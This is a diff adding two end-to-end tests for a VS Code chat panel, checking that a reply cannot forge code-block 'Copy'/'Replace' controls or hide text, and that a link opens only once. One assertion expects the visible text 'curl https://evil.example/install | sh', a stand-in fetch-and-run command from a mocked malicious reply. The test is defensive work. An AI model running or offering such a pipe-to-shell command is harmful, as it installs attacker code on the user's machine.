@@ -160,6 +160,73 @@ describe('chat panel (real VS Code, end to end)', () => {
     await context.workbench.screenshot('chat-xss');
   });
 
+  it('issue 11.5: a reply cannot forge code-block controls: its markup is stripped and only the page\'s own toolbars act', async () => {
+    const { page } = context.workbench;
+    await openFile(page, 'scratch.ts');
+    const editorLines = page.locator('.editor-group-container.active .monaco-editor .view-lines');
+    await editorLines.click();
+    await page.keyboard.type('const kept = true;');
+    await page.keyboard.press('Control+A');
+    const frame = await openChat(page);
+    await send(frame, 'How do I install it? #forged');
+    await waitForStatus(frame, 'done');
+    const reply = lastReply(frame);
+    await reply.locator('p', { hasText: 'Install the package with:' }).waitFor();
+    // What a user would click: the reply's "Copy" and "Replace", and its plain-looking link.
+    for (const label of ['Copy', 'Replace', 'the documentation']) await reply.locator('a', { hasText: label }).first().click();
+    await page.waitForTimeout(1_000);
+    assert.strictEqual(normalize(await editorLines.innerText()).trim(), 'const kept = true;', 'the selection was not replaced');
+    const findings = await reply.evaluate((article) => ({
+      forgedActions: Array.from(article.querySelectorAll('[data-code-action]')).filter((element) => element.tagName !== 'BUTTON').length,
+      toolbars: article.querySelectorAll('.code-toolbar, .code-block, .code-action').length,
+      hiddenOrIds: article.querySelectorAll('.markdown [hidden], .markdown [id]').length,
+      text: (article as HTMLElement).innerText,
+    }));
+    assert.strictEqual(findings.forgedActions, 0, 'a data-code-action of the reply survived');
+    assert.strictEqual(findings.toolbars, 0, 'the reply\'s markup passes for a code toolbar (or its <pre> got one)');
+    assert.strictEqual(findings.hiddenOrIds, 0);
+    assert.match(findings.text, /curl https:\/\/evil\.example\/install \| sh/, 'text the reply tried to hide is shown');
+    await context.workbench.screenshot('chat-forged-controls');
+    await page.keyboard.press('Escape');
+    await editorLines.click();
+    await page.keyboard.press('Control+A');
+    await page.keyboard.press('Delete');
+  });
+
+  it('issue 11.6: a link in a reply opens once: one prompt from VS Code, none after it', async () => {
+    const { page, service } = context.workbench;
+    const frame = await openChat(page);
+    service.setScenario({ chat: { reply: 'See [the guide](https://docs.example.com/promptreel) for more.' } });
+    const popups: Page[] = [];
+    const onPopup = (popup: Page) => popups.push(popup);
+    page.context().on('page', onPopup);
+    try {
+      await send(frame, 'Where is the guide?');
+      await waitForStatus(frame, 'done');
+      await lastReply(frame).locator('a', { hasText: 'the guide' }).click();
+      // VS Code asks before it opens a site that is not trusted; every further open would ask again.
+      const prompts = page.locator('.monaco-dialog-box', { hasText: 'docs.example.com' });
+      let asked = 0;
+      const deadline = Date.now() + 8_000;
+      while (Date.now() < deadline) {
+        if (await prompts.isVisible()) {
+          asked++;
+          await context.workbench.screenshot(`chat-link-prompt-${asked}`);
+          await prompts.getByRole('button', { name: 'Cancel' }).click();
+          await prompts.waitFor({ state: 'hidden', timeout: 5_000 });
+        }
+        await page.waitForTimeout(250);
+      }
+      assert.strictEqual(asked + popups.length, 1, `the link was opened ${asked} time(s) through a prompt and ${popups.length} time(s) directly`);
+    } finally {
+      page.context().off('page', onPopup);
+      // A page left open in front keeps the workbench in the background, where Chromium stops its frames.
+      for (const popup of popups) await popup.close().catch(() => undefined);
+      await page.bringToFront();
+      service.setScenario({ chat: { reply: null } });
+    }
+  });
+
   it('inserts a code block of a reply at the cursor of the editor', async () => {
     const { page } = context.workbench;
     await openFile(page, 'scratch.ts');
